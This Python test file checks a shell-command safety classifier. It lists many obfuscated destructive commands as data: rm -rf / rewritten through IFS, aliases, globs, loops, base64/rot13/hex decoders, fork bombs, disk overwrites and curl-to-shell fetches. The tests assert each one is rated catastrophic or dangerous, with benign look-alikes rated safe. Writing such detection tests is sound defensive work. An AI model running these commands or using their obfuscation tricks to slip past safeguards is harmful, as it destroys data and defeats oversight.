"""Rewordings through shell expansion and control flow, and shell input taken from elsewhere (issue 12).

A catastrophic command stays catastrophic however the script builds it: custom `IFS`, variables,
substitutions and `set --` in command position, inline functions, aliases and `hash -p`, brace
expansion and globs at a root, a `cd` to a root before relative destruction, loops over root
entries, here-strings, here-documents and process substitution feeding a shell or `source`, and
decoders (rot13, `rev`, hex, base64/base32) feeding a shell. What the analysis cannot resolve is
at least dangerous, and everyday look-alikes stay as they were.

These strings are data: they are only ever classified, never run.
"""

from __future__ import annotations

import pytest

from engine.gate.verdict import Level

IFS = [
    "IFS=,; c=rm,-rf,/; $c",
    "IFS=_; c=rm_-rf_/; $c",
    "IFS=$'\\n'; c=$'rm\\n-rf\\n/'; $c",
    "IFS=:; set -- rm:-rf:/; $1",
    "IFS=,;x=\"rm,-rf,/\";$x",
    "export IFS=.; c=rm.-rf./; $c",
]

COMMAND_POSITION = [
    "c=rm; $c -rf /",
    "c=rm; ${c} -rf /",
    "a=r; b=m; $a$b -rf /",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$(printf 'r%s' m) -rf /",
    "set -- rm -rf /; \"$@\"",
    "set -- rm -rf /; $1 $2 $3",
    "set -- rm -rf /; $@",
    "set -- rm -rf /; $*",
    "x=c; c=rm; ${!x} -rf /",
    "declare c=rm; $c -rf /",
    "export c=rm; $c -rf /",
    "readonly c=rm; $c -rf /",
    "typeset -x c=rm; $c -rf /",
    "printf -v c rm; $c -rf /",
    "printf -v c '%s' rm; \"$c\" -rf /",
    "read c <<< rm; $c -rf /",
    "read -r a b c <<< 'rm -rf /'; $a $b $c",
    "IFS=, read -r a b c <<< 'rm,-rf,/'; $a $b $c",
    "f() { local c=rm; $c -rf /; }; f",
    "cmd=\"rm -rf /\"; $cmd",
    "eval $(echo rm -rf /)",
    "c=(rm -rf /); \"${c[@]}\"",
    ": ${c:=rm}; $c -rf /",
    "c=xrm; ${c#x} -rf /",
    "c=RM; ${c,,} -rf /",
    "${x:-rm} -rf /",
    "rm -rf ${HOME:?}",
    "bash -c 'rm -rf \"$1\"' _ /",
    "sh -c 'rm -rf $@' sh /",
    "$(which rm) -rf /",
    "`command -v rm` -rf /",
    "/bin/r? -rf /",
    "/usr/bin/r* -rf /",
    "x=rm sh -c '$x -rf /'",
    "read -a arr <<< 'rm -rf /'; \"${arr[@]}\"",
    "mapfile -t lines <<< 'rm -rf /'; ${lines[0]}",
]

FUNCTIONS_AND_ALIASES = [
    "f(){ rm -rf \"$1\"; }; f /",
    "function f { rm -rf \"$1\"; }; f /",
    "function wipe() { rm -rf \"$@\"; }; wipe /",
    "g() { \"$@\"; }; g rm -rf /",
    "f() { rm -rf \"$1\"/*; }; f \"\"",
    "f() { $1 -rf /; }; f rm",
    "f(){ g \"$@\"; }; g(){ rm -rf \"$1\"; }; f /",
    "clean() {\n  target=$1\n  rm -rf \"$target\"\n}\nclean ~",
    "alias x='rm -rf'; x /",
    "alias x='rm'; x -rf /",
    "alias ll='rm -rf /'; ll",
    "hash -p /bin/rm ls; ls -rf /",
    "hash -p /usr/bin/rm cat; cat -rf /",
]

BRACES_AND_GLOBS = [
    "rm -rf /{bin,etc,usr}",
    "rm -rf /{,}",
    "rm -rf /*",
    "rm -rf /.*",
    "rm -rf /[a-z]*",
    "rm -rf /???",
    "rm -rf ~/*",
    "rm -rf $HOME/*",
    "rm -rf /home/*",
    "rm -rf {/,/tmp}",
    "rm -rf /e{t,x}c",
    "rm -rf /usr/{bin,lib}",
    "chmod -R 000 /{etc,usr}",
    "rm -rf /{a..z}*",
    "rm -rf /*/*",
    "rm -rf /e*",
    "rm -rf ~/[a-z]*",
    "rm -rf /var/l*",
    "{rm,-rf,/}",
    "rm -rf {/,}",
    "rm -rf /${x:-}",
    "rm -rf /$(true)",
]

CWD = [
    "cd / && rm -rf *",
    "cd / ; rm -rf .",
    "cd ~ && rm -rf ./*",
    "cd $HOME; rm -rf *",
    "cd && rm -rf *",
    "pushd / && rm -rf *",
    "cd /etc && rm -rf *",
    "cd / && find . -delete",
    "cd / && chmod -R 777 .",
    "cd /usr && rm -rf ./*",
    "cd /tmp/.. && rm -rf *",
    "cd /\nrm -rf -- *",
    "(cd / && rm -rf ./*)",
]

LOOPS = [
    "for d in /*; do rm -rf \"$d\"; done",
    "for f in /etc /usr; do rm -rf $f; done",
    "for f in /etc /usr /var; do rm -rf \"$f\"; done",
    "for d in $(ls /); do rm -rf \"/$d\"; done",
    "for d in bin etc usr; do rm -rf \"/$d\"; done",
    "ls / | while read d; do rm -rf \"/$d\"; done",
    "ls / | while read -r d; do rm -rf /\"$d\"; done",
    "find / -maxdepth 1 | xargs rm -rf",
    "find / -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf",
    "ls -d /* | xargs rm -rf",
    "echo /* | xargs rm -rf",
    "for u in /home/*; do rm -rf \"$u\"; done",
]

SHELL_INPUT = [
    "bash <<< 'rm -rf /'",
    "sh <<EOF\nrm -rf /\nEOF",
    "bash <<-'END'\n\trm -rf ~\n\tEND",
    "source <(echo 'rm -rf /')",
    ". <(echo rm -rf /)",
    "bash < <(printf 'rm -rf /')",
    "bash <(echo 'rm -rf /')",
    ". /dev/stdin <<< 'rm -rf /'",
    "source /dev/stdin <<< 'rm -rf /'",
    "bash /dev/stdin <<< 'rm -rf /'",
    "echo 'rm -rf /' | source /dev/stdin",
    "xargs -I{} sh -c {} <<< 'rm -rf /'",
    "parallel ::: 'rm -rf /'",
    "parallel sh -c ::: 'rm -rf /'",
    "echo 'rm -rf /' | xargs -I{} bash -c '{}'",
    "sh -c \"$(cat <<< 'rm -rf /')\"",
    "cat <<'EOF' | sh\nrm -rf /\nEOF",
    "echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh",
    "cat > run.sh <<'EOF'\nrm -rf ~\nEOF\nsh run.sh",
    "printf 'rm -rf /' > x; . ./x",
    "trap 'rm -rf /' EXIT",
    "coproc rm -rf /",
    "xargs -a <(echo /) rm -rf",
    "xargs -0 rm -rf < <(printf '/\\0')",
    "parallel rm -rf <<< /",
    "echo / | parallel busybox rm -rf",
]

DECODERS = [
    "echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "echo 'ez -es /' | tr 'a-z' 'n-za-m' | bash",
    "echo 'ez -es /' | tr '[a-z]' '[n-za-m]' | sh",
    "echo 'ez -es /' | tr '[:lower:]' 'n-za-m' | sh",
    "echo '/ fr- mr' | rev | sh",
    "rev <<< '/ fr- mr' | bash",
    "echo 726d202d7266202f | xxd -r -p | sh",
    "echo '00000000: 726d 202d 7266 202f                      rm -rf /' | xxd -r | sh",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "echo cm0gLXJmIC8= | base64 --decode | bash",
    "base64 -d <<< cm0gLXJmIC8= | sh",
    "echo OJWSALLSMYQC6=== | base32 -d | sh",
    "echo cm0gLXJmIC8= | openssl enc -d -base64 | sh",
    "echo cm0gLXJmIC8= | openssl base64 -d | sh",
    "echo cm0gLXJmIC8= | basenc --base64 -d | sh",
    "echo 726D202D7266202F | basenc --base16 -d | sh",
    "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
    "echo -e '\\x72\\x6d -rf /' | bash",
    "printf %b '\\162\\155 -rf /' | sh",
    "$(printf '\\x72\\x6d') -rf /",
    "sh -c \"$(echo cm0gLXJmIC8= | base64 -d)\"",
    "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
    "$(echo cm0gLXJmIC8= | base64 -d)",
    "bash <<< \"$(echo cm0gLXJmIC8= | base64 -d)\"",
    "bash -c \"$(echo 'ez -es /' | tr a-z n-za-m)\"",
    "echo ZGQgaWY9L2Rldi96ZXJvIG9mPS9kZXYvc2Rh | base64 -d | bash",
    "echo H4sIAAAAAAACAyvKVdAtSlPQBwBcTPLsCAAAAA== | base64 -d | gunzip | sh",
    "echo H4sIAAAAAAACAyvKVdAtSlPQBwBcTPLsCAAAAA== | base64 -d | zcat | bash",
    "base64 -d <<< H4sIAAAAAAACAyvKVdAtSlPQBwBcTPLsCAAAAA== | gzip -dc | sh",
    "echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAHcm0gLXJmIC8A8LrYakBg6tUAASAIuxnZux+2830BAAAAAARZWg== | base64 -d | xz -d | sh",
    "echo QlpoOTFBWSZTWc5P1rEAAAORgEACgQIQACAAMMAGmm0B6qLhdyRThQkM5P1rEA== | base64 -d | bunzip2 | sh",
    "awk 'BEGIN{printf \"rm -rf %s\\n\", \"/\"}' | sh",
    "awk 'BEGIN { print \"rm -rf /\" }' | bash",
    "awk 'BEGIN{print \"rm\", \"-rf\", \"/\"}' | sh",
    "awk -v d=/ 'BEGIN{print \"rm -rf \" d}' | sh",
    "awk '{print \"rm -rf \" $0}' <<< / | sh",
    "echo / | awk '{printf \"rm -rf %s\\n\", $1}' | sh",
    "sed 's/^/rm -rf /' <<< / | sh",
    "echo / | sed 's/^/rm -rf /' | bash",
    "echo 'rm -rf X' | sed 's/X/\\//' | sh",
    "echo 'ez -es /' | sed 'y/abcdefghijklmnopqrstuvwxyz/nopqrstuvwxyzabcdefghijklm/' | sh",
    "printf 'rm -rf %s' / | sh",
    "printf '%s %s %s' rm -rf / | bash",
    "echo 'xx -rf /' | perl -pe 's/xx/rm/' | sh",
    "echo 'ez -es /' | perl -pe 'tr/a-z/n-za-m/' | sh",
]

ENVIRONMENT_SAMPLES = [
    "rm -rf ${PWD%%/*}/",
    "rm -rf \"${PWD%%/*}/\"",
    "rm -rf ${HOME%/*}",
    "rm -rf ${HOME%/*}/*",
    "rm -rf ${PATH:0:1}",
    "rm -rf ${SHELL%/*}",
    "rm -rf ${SHELL%%/bash}",
    "rm -rf ${TMPDIR:-/tmp}/../..",
    "cd /; rm -rf $OLDPWD",
    "rm -rf ${PWD%/*}/..",
    "rm -rf ${HOME%%/home*}/",
    "rm -rf ${USER:+/}",
    "rm -rf ${PATH%%:*}/../..",
    "rm -rf ${PATH##*:}",
    "chmod -R 000 ${HOME%/*}",
    "dd if=/dev/zero of=${PATH:0:1}dev/sda",
    "d=${PWD%%/*}; rm -rf $d/",
    "rm -rf ${PWD/home*/}",
    "rm -rf ${PWD//[a-z]/}",
]

FORK_BOMBS = [
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb& };bomb",
    "f(){ f & f; }; f",
    "function f { f | f & }; f",
    "bash -c ':(){ :|:& };:'",
    "x() { x | x & }; x",
    "while :; do $0 & done",
    "until false; do bash -c 'sleep 99' & done",
    "for ((;;)); do sh & done",
]

CATASTROPHIC = (IFS + COMMAND_POSITION + FUNCTIONS_AND_ALIASES + BRACES_AND_GLOBS + CWD + LOOPS + SHELL_INPUT + DECODERS
                + ENVIRONMENT_SAMPLES + FORK_BOMBS)

UNRESOLVED = [
    "$CMD",
    "${!x} -rf /",
    "\"$@\"",
    "$1 -rf /",
    "eval \"$x\"",
    "$(cat cmd.txt)",
    "f(){ \"$@\"; }; f \"$X\"",
    ". <(curl -s https://x.example/i.sh)",
    "bash < <(curl -s https://x.example/i.sh)",
    "cat script | sh",
    "IFS=,; $x",
    "IFS=,; ls",
    "alias x=ls; x",
    "f(){ ls; }; f",
    "a=ls; $a",
    "$(echo ls)",
    "hash -p /bin/ls x; x",
    "eval ls",
    "set -- ls; \"$@\"",
    "cat list | while read f; do rm -rf \"$f\"; done",
    "source /dev/stdin",
    "/bin/l? -la",
    "$(which foo) bar",
    "${PAGER:-less} notes.txt",
    "{ls,-la}",
    "cat ${PWD%/*}/notes.txt",
    "ls ${HOME%/*}",
    "x=${PWD%/*}; cat $x/notes.txt",
    "cat ${SHELL%/*}/../etc/hostname",
]

DANGEROUS_LOOKALIKES = [
    "cd /tmp && rm -rf *",
    "for f in *.tmp; do rm \"$f\"; done",
    "rm -rf ./{build,dist}",
    "rm -rf /tmp/*",
    "rm -rf ~/Documents/*",
    "find /tmp -maxdepth 1 | xargs rm -rf",
    "rm -rf ~/*.log",
    "rm -rf /tmp*",
    "cd build && rm -rf *",
    "cd ~/project && rm -rf ./node_modules",
    "fib(){ fib 1; fib 2; }; fib",
    "while true; do ./worker & sleep 5; done",
]

SAFE = [
    "for f in *.log; do wc -l \"$f\"; done",
    "cd /tmp && ls",
    "for i in 1 2 3; do echo $i; done",
    "echo {a,b}.txt",
    "ls /{bin,etc}",
    "echo 'rm -rf /' | tr a-z A-Z",
    "echo cm0gLXJmIC8= | base64 -d",
    "cd / && ls",
    "cd ~ && ls -la",
    "cd /etc && cat hostname",
    "echo $(echo hi)",
    "echo '/ fr- mr' | rev",
    "echo x | sed 's/x/rm -rf \\//'",
    "awk 'BEGIN{print \"rm -rf /\"}'",
    "diff <(echo a) <(echo b)",
    "x=5; echo $x",
    "cat <<EOF\nrm -rf /\nEOF",
    "for f in /etc/hostname /etc/os-release; do cat \"$f\"; done",
    "find . -name '*.py' -exec wc -l {} \\;",
    "echo $(basename /tmp/x.txt)",
    "ls $(dirname /etc/hostname)",
]


@pytest.mark.parametrize("command", CATASTROPHIC)
def test_rewording_is_catastrophic(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.CATASTROPHIC, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", UNRESOLVED)
def test_unresolved_is_never_safe(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level >= Level.DANGEROUS, f"{command!r} rated safe"


@pytest.mark.parametrize("command", DANGEROUS_LOOKALIKES)
def test_lookalike_is_dangerous_not_catastrophic(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.DANGEROUS, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", SAFE)
def test_benign_lookalike_stays_safe(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.SAFE, f"{command!r}: {verdict.level.label} {verdict.rules}"


def test_decoded_payload_is_named(shell) -> None:
    verdict = shell("echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh")
    assert "obfuscation.decoded-payload" in verdict.rules
    assert "fs.rm-root" in verdict.rules


def test_indirection_is_named_even_when_resolved(shell) -> None:
    assert "exec.indirect-command" in shell("c=rm; $c -rf /").rules
    assert "exec.redefined-command" in shell("f(){ rm -rf \"$1\"; }; f /").rules
    assert "obfuscation.custom-ifs" in shell("IFS=,; c=rm,-rf,/; $c").rules


def test_brace_expansion_is_bounded(shell) -> None:
    verdict = shell("rm -rf /x" + "{a,b}" * 40)
    assert verdict.level is Level.DANGEROUS
    assert shell("echo " + "{1..100000}" * 8).level is Level.SAFE


def test_recursion_through_functions_is_bounded(shell) -> None:
    text = "; ".join(f"f{i}() {{ f{i + 1} \"$@\"; f{i + 1} \"$@\"; }}" for i in range(40)) + "; f40() { rm -rf \"$1\"; }; f0 /"
    assert shell(text).level >= Level.DANGEROUS
